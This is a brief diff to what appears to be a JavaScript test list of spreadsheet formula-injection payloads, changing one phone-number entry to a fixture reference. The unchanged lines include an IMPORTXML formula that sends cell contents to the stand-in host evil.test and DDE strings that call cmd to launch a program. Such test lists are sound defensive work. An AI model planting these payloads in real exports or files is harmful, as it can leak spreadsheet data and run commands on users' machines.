@@ -55,7 +55,7 @@ const PAYLOADS = [
   '=IMPORTXML(CONCAT("https://evil.test/",A1),"//a")',
   "@SUM(1+9)*cmd|' /C calc'!A0",
   '+1+1',
-  '+86 13800000001',
+  `+86 ${PEOPLE.张建国.sjhm}`,
   '-1+1',
   "-2+3+cmd|' /C calc'!D2",
   '\t=1+1',
